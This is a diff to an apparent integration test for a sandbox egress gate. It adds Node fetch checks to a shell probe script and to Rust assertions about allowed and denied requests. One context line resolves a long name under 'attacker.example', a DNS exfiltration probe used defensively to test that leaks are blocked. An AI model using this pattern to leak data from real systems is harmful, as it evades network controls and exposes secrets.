@@ -237,6 +237,12 @@ reason = "no secrets over the transparent path"
 echo "plain=$(curl -s http://api.example.test/plain)"
 echo "python=$(python3 -c 'import urllib.request; print(urllib.request.urlopen("http://api.example.test/python").read().decode().strip())')"
 echo "tls=$(curl -s https://api.example.test/secret/x | head -1)"
+if command -v node >/dev/null; then
+  node -e 'fetch("http://api.example.test/node").then(r=>r.text()).then(t=>console.log("node=" + t.trim()))'
+  node -e 'fetch("https://api.example.test/secret/node").then(r=>r.text()).then(t=>console.log("node-tls=" + t.split("\\n")[0]))'
+else
+  echo "node=absent"
+fi
 echo "tls-rc=$?"
 echo "post=$(curl -s -X POST --data x http://api.example.test/write | head -1)"
 python3 -c 'import socket; print("dns", socket.gethostbyname("q" * 60 + ".attacker.example"))'
@@ -252,6 +258,13 @@ curl -s --max-time 5 http://api.example.test:{p}/other-port; echo "other-port-rc
     // Allowed plain HTTP went through the gate to the upstream.
     assert!(stdout.contains("plain=you sent"), "{stdout}");
     assert!(stdout.contains("python=you sent"), "{stdout}");
+    // Node's built-in fetch ignores the proxy variables altogether.
+    if !stdout.contains("node=absent") {
+        assert!(stdout.contains("node=you sent"), "{stdout}");
+        assert!(seen.contains("GET /node"), "{seen}");
+        // Over TLS it trusted the session CA and met the gate's refusal.
+        assert!(stdout.contains("node-tls=blastwall: denied"), "{stdout}");
+    }
     assert!(seen.contains("GET /plain"), "{seen}");
     assert!(seen.contains("GET /python"), "{seen}");
     // TLS straight to 443 was intercepted with the session CA and decided.
